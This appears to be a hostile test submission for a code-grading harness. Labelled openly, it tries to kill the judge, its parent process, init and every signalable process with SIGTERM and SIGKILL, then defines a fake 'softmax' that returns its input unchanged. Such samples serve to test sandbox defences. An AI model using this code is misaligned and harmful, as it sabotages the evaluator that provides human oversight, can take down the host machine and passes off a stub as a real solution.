"""Tries: to end the judge, our parent, and everything that we may signal.
Won if: trace: a process is gone.
Naive grader: not run: it would harm the machine.
"""

import os
import signal

for pid in (stage.judge, os.getppid(), 1, -1, 0):
    for number in (signal.SIGTERM, signal.SIGKILL):
        if pid or number == signal.SIGTERM:
            try:
                os.kill(pid, number)
            except OSError:
                pass

def softmax(scores, axis=-1):
    return scores
